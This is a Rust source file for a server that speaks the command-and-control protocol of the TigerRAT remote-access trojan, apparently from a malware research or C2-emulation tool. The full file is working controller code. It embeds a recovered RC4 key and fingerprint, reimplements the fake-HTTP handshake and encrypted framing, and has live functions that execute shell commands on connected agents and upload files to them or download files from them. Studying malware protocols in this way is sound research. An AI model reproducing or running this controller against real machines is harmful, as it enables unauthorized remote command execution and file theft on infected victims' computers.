use crate::hexdump::hexdump;
use crate::protocol::rc4::Rc4;
use crate::protocol::wide::{decode_wide_string, encode_wide_string};
use crate::protocol::{ByteQueue, Delegate, DelegateCell};
use log::{debug, info, warn};
use sha2::{Digest, Sha256};
use std::fs::File;
use std::io::{Read, Write};
use std::sync::{Arc, Mutex, Once};
use std::thread;

/// RC4 keys recovered from known samples, matched by the MD5-style
/// fingerprint the agent presents during its banner handshake.
const KEYS: &[&[u8; 32]] = &[
    b"\xde\x42\xbe\x46\xea\xb9\xcd\xfc\x5c\xe3\x06\x64\x26\xc1\xfa\x1f\x73\x9f\x55\x74\x80\x96\x58\xf2\xad\x54\x8a\x57\xd4\x20\xaa\xb1",
];

const HASHES: &[&[u8; 16]] = &[
    b"\xf2\x7c\x29\x1f\xa5\x75\xfa\x20\x23\xf7\x7b\x5b\xfa\x5b\xe1\x4a",
];

const MOD_MAIN: u32 = 0x00000000;
#[allow(dead_code)]
const MOD_UPDATE: u32 = 0x00000001;
#[allow(dead_code)]
const MOD_INFORMATION: u32 = 0x00000002;
const MOD_SHELL: u32 = 0x00000003;
const MOD_FILE_MANAGER: u32 = 0x00000004;
#[allow(dead_code)]
const MOD_KEY_LOGGER: u32 = 0x00000005;
#[allow(dead_code)]
const MOD_SOCKS_TUNNEL: u32 = 0x00000006;
#[allow(dead_code)]
const MOD_SCREEN_CAPTURE: u32 = 0x00000007;
#[allow(dead_code)]
const MOD_PORT_FORWARDER: u32 = 0x0000000a;

#[allow(dead_code)]
const OP_UPDATE_EXIT: u32 = 0x00000020;
#[allow(dead_code)]
const OP_UPDATE_REMOVE: u32 = 0x00000030;
#[allow(dead_code)]
const OP_INFORMATION_COMPUTER_NAME: u32 = 0x00000010;
#[allow(dead_code)]
const OP_INFORMATION_VERSION: u32 = 0x00000020;
#[allow(dead_code)]
const OP_INFORMATION_ADAPTER_INFO: u32 = 0x00000030;
#[allow(dead_code)]
const OP_INFORMATION_USER_NAME: u32 = 0x00000040;
const OP_SHELL_EXECUTE: u32 = 0x00000010;
#[allow(dead_code)]
const OP_SHELL_SET_DIRECTORY: u32 = 0x00000020;
#[allow(dead_code)]
const OP_SHELL_GET_DIRECTORY: u32 = 0x00000030;
#[allow(dead_code)]
const OP_SHELL_SOCKET: u32 = 0x00000040;
#[allow(dead_code)]
const OP_FILE_MANAGER_LIST_DRIVES: u32 = 0x00000010;
#[allow(dead_code)]
const OP_FILE_MANAGER_LIST_FILES: u32 = 0x00000020;
#[allow(dead_code)]
const OP_FILE_MANAGER_FILE_DELETE: u32 = 0x00000030;
const OP_FILE_MANAGER_UPLOAD_START: u32 = 0x00000040;
const OP_FILE_MANAGER_UPLOAD_DATA: u32 = 0x00000042;
const OP_FILE_MANAGER_UPLOAD_DONE: u32 = 0x00000043;
const OP_FILE_MANAGER_DOWNLOAD_FILE: u32 = 0x00000050;
#[allow(dead_code)]
const OP_FILE_MANAGER_DOWNLOAD_FILE_POSITION: u32 = 0x00000057;
#[allow(dead_code)]
const OP_FILE_MANAGER_SET_FLAG: u32 = 0x0000005f;
#[allow(dead_code)]
const OP_FILE_MANAGER_CREATE_PROCESS: u32 = 0x00000060;
#[allow(dead_code)]
const OP_FILE_MANAGER_CREATE_PROCESS_AS_USER: u32 = 0x00000063;
#[allow(dead_code)]
const OP_FILE_MANAGER_DOWNLOAD_DIRECTORY: u32 = 0x00000070;
#[allow(dead_code)]
const OP_FILE_MANAGER_LIST1: u32 = 0x00000080;
#[allow(dead_code)]
const OP_FILE_MANAGER_LIST2: u32 = 0x00000090;

const UPLOAD_CHUNK_SIZE: usize = 0x10000;

/// TigerRAT protocol handler. A fake-HTTP banner handshake exchanges a
/// key fingerprint; afterwards frames are a u32le total length followed
/// by an RC4-ciphered module/opcode/size header and payload.
pub struct Handler {
    inner: Arc<Inner>,
    decoder: Once,
}

struct Inner {
    delegate: DelegateCell,
    queue: ByteQueue,
    state: Mutex<State>,
}

#[derive(Default)]
struct State {
    send_cipher: Option<Rc4>,
    recv_cipher: Option<Rc4>,
    file_name: String,
    file: Option<File>,
}

struct Command {
    module: u32,
    opcode: u32,
    size: u32,
    data: Vec<u8>,
}

impl Handler {
    pub fn new() -> Self {
        Handler {
            inner: Arc::new(Inner {
                delegate: DelegateCell::new(),
                queue: ByteQueue::new(),
                state: Mutex::new(State::default()),
            }),
            decoder: Once::new(),
        }
    }
}

impl Default for Handler {
    fn default() -> Self {
        Handler::new()
    }
}

impl crate::protocol::Handler for Handler {
    fn needs_tls(&self) -> bool {
        false
    }

    fn set_delegate(&self, delegate: Arc<dyn Delegate>) {
        self.inner.delegate.set(delegate);
    }

    fn accept(&self) {}

    fn receive_data(&self, data: &[u8]) {
        debug!("received\n{}", hexdump(data));

        let inner = Arc::clone(&self.inner);
        self.decoder.call_once(move || {
            thread::spawn(move || inner.process_data());
        });

        self.inner.queue.put(data);
    }

    fn execute(&self, name: &str, args: &[String]) {
        let mut data = encode_wide_string(format!("{} {}", name, args.join(" ")).trim());
        data.extend_from_slice(&[0x00, 0x00]);

        self.inner.send_command(&Command {
            module: MOD_SHELL,
            opcode: OP_SHELL_EXECUTE,
            size: data.len() as u32,
            data,
        });
    }

    fn upload(&self, source: &str, destination: &str) {
        let file = match File::open(source) {
            Ok(f) => f,
            Err(e) => {
                warn!("Error opening source file: {e}");
                return;
            }
        };

        // The agent skips the first four bytes of the name payload.
        let mut data = vec![0x00, 0x00, 0x00, 0x00];
        data.extend_from_slice(&encode_wide_string(destination));
        data.extend_from_slice(&[0x00, 0x00]);

        self.inner.send_command(&Command {
            module: MOD_FILE_MANAGER,
            opcode: OP_FILE_MANAGER_UPLOAD_START,
            size: data.len() as u32,
            data,
        });

        self.inner.state.lock().unwrap().file = Some(file);
    }

    fn download(&self, source: &str, destination: &str) {
        self.inner.state.lock().unwrap().file_name = destination.to_string();

        let mut data = encode_wide_string(source);
        data.extend_from_slice(&[0x00, 0x00]);

        self.inner.send_command(&Command {
            module: MOD_FILE_MANAGER,
            opcode: OP_FILE_MANAGER_DOWNLOAD_FILE,
            size: data.len() as u32,
            data,
        });
    }

    fn close(&self) {
        let mut state = self.inner.state.lock().unwrap();
        state.file = None;
        state.file_name.clear();
        drop(state);

        self.inner.queue.close();
    }
}

impl Inner {
    fn process_data(&self) {
        // Banner handshake: discard the agent's opening blob, present
        // the server banner, then match the key fingerprint.
        if self.queue.get(44).is_err() {
            self.delegate.get().close_connection();
            return;
        }

        self.delegate.get().send_data(b"HTTP 1.1 200 OK SSL2.1\x00");

        let b = match self.queue.get(17) {
            Ok(b) => b,
            Err(_) => {
                self.delegate.get().close_connection();
                return;
            }
        };

        let mut key: Option<&[u8; 32]> = None;
        for (idx, hash) in HASHES.iter().enumerate() {
            if hash[..] == b[0..16] {
                key = Some(KEYS[idx]);
            }
        }

        let key = match key {
            Some(k) => k,
            None => {
                warn!("tigerrat unknown key");
                self.delegate.get().close_connection();
                return;
            }
        };

        {
            let mut state = self.state.lock().unwrap();
            state.recv_cipher = Some(Rc4::new(&key[..]));
            state.send_cipher = Some(Rc4::new(&key[..]));
        }

        self.delegate.get().send_data(b"xPPygOn\x00");

        loop {
            let b = match self.queue.get(4) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return;
                }
            };

            let size = u32::from_le_bytes(b[0..4].try_into().unwrap());
            if size == 0 {
                continue;
            }

            let b = match self.queue.get(size as usize) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return;
                }
            };

            let decrypted = {
                let mut state = self.state.lock().unwrap();
                match state.recv_cipher.as_mut() {
                    Some(cipher) => cipher.process(&b),
                    None => b,
                }
            };

            if decrypted.len() < 12 {
                self.delegate.get().close_connection();
                return;
            }

            let inner_size = u32::from_le_bytes(decrypted[8..12].try_into().unwrap());
            let command = Command {
                module: u32::from_le_bytes(decrypted[0..4].try_into().unwrap()),
                opcode: u32::from_le_bytes(decrypted[4..8].try_into().unwrap()),
                size: inner_size,
                data: decrypted[12..].to_vec(),
            };

            self.process_command(command);
        }
    }

    fn process_command(&self, command: Command) {
        log_command(&command);

        match command.module {
            MOD_MAIN => {
                if command.opcode == 0x1 {
                    let id = hex::encode(Sha256::digest(&command.data));
                    self.delegate.get().agent_connected(&id);
                }
            }
            MOD_SHELL => match command.opcode {
                0x11 => info!("{}", decode_wide_string(&command.data)),
                0x12 => info!("Execute complete"),
                0x32 => warn!("Execute failed"),
                _ => {}
            },
            MOD_FILE_MANAGER => match command.opcode {
                0x41 => {
                    self.stream_upload();

                    // Finish the file transfer
                    self.send_command(&Command {
                        module: MOD_FILE_MANAGER,
                        opcode: OP_FILE_MANAGER_UPLOAD_DONE,
                        size: 0x0,
                        data: Vec::new(),
                    });

                    info!("Upload complete");
                }
                0x44 => {
                    let mut state = self.state.lock().unwrap();
                    state.file = None;
                    state.file_name.clear();
                    warn!("Upload failed");
                }
                0x51 => {
                    let mut state = self.state.lock().unwrap();
                    match File::create(&state.file_name) {
                        Ok(file) => state.file = Some(file),
                        Err(e) => warn!("Error opening destination file: {e}"),
                    }
                }
                0x52 => warn!("Download failed"),
                0x53 => {
                    let mut state = self.state.lock().unwrap();
                    if let Some(file) = state.file.as_mut() {
                        if let Err(e) = file.write_all(&command.data) {
                            warn!("Error writing destination file: {e}");
                        }
                    }
                }
                0x54 => {
                    let mut state = self.state.lock().unwrap();
                    state.file = None;
                    state.file_name.clear();
                    info!("Download complete");
                }
                _ => {}
            },
            _ => {}
        }
    }

    fn stream_upload(&self) {
        let mut buf = vec![0u8; UPLOAD_CHUNK_SIZE];

        loop {
            let bytes_read = {
                let mut state = self.state.lock().unwrap();
                match state.file.as_mut() {
                    Some(file) => match file.read(&mut buf) {
                        Ok(0) => break,
                        Ok(n) => n,
                        Err(e) => {
                            warn!("Error reading source file: {e}");
                            break;
                        }
                    },
                    None => break,
                }
            };

            self.send_command(&Command {
                module: MOD_FILE_MANAGER,
                opcode: OP_FILE_MANAGER_UPLOAD_DATA,
                size: bytes_read as u32,
                data: buf[..bytes_read].to_vec(),
            });
        }
    }

    fn send_command(&self, command: &Command) {
        let mut data = Vec::with_capacity(12 + command.data.len());
        data.extend_from_slice(&command.module.to_le_bytes());
        data.extend_from_slice(&command.opcode.to_le_bytes());
        data.extend_from_slice(&command.size.to_le_bytes());
        data.extend_from_slice(&command.data);

        let encrypted = {
            let mut state = self.state.lock().unwrap();
            match state.send_cipher.as_mut() {
                Some(cipher) => cipher.process(&data),
                None => data,
            }
        };

        let mut packet = Vec::with_capacity(4 + encrypted.len());
        packet.extend_from_slice(&(encrypted.len() as u32).to_le_bytes());
        packet.extend_from_slice(&encrypted);

        self.delegate.get().send_data(&packet);
    }
}

fn log_command(command: &Command) {
    debug!("TigerRAT Command");
    debug!("Module: 0x{:x}", command.module);
    debug!("Opcode: 0x{:x}", command.opcode);
    debug!("  Size: 0x{:x}", command.size);
    if command.size > 0 {
        debug!("  Data:\n{}", hexdump(&command.data));
    }
}
